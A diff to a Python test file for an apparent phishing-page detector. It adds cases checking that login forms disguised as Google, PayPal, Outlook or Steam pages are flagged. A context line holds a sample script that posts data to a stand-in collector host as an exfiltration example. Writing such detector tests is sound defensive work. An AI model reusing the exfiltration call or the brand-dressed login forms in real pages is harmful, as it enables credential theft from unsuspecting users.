@@ -687,3 +687,20 @@ def test_calls_to_a_networks_own_graph_api_are_not_exfiltration():
     assert f(html, url="")["credential.js_exfil"] == 0
     html = "<script>fetch('https://collector.example/save', {method: 'POST'})</script>"
     assert f(html, url="")["credential.js_exfil"] == 1
+
+
+@pytest.mark.parametrize(
+    ("html", "url", "fired"),
+    [
+        ("<title>Sign in - Google Accounts</title>" + LOGIN_FORM, "", 1),
+        ("<title>PayPal: Log in</title>" + LOGIN_FORM, "https://secure-pay.example/", 1),
+        ("<h1>Outlook Web App</h1>" + LOGIN_FORM, "", 1),
+        ("<title>Sign In | Steam</title>" + LOGIN_FORM, "", 1),
+        ("<title>Netflix</title>" + LOGIN_FORM, "https://www.netflix.com/login", 0),
+        ("<title>Continue with Google - Notely</title>" + LOGIN_FORM, "", 0),
+        ("<title>Acme Webmail</title>" + LOGIN_FORM, "", 0),
+    ],
+)
+def test_login_pages_dressed_as_a_big_service(html, url, fired):
+    # Kits dress their forms as any large service, not only social networks.
+    assert f(html, url=url)["credential.social_login_clone"] == fired
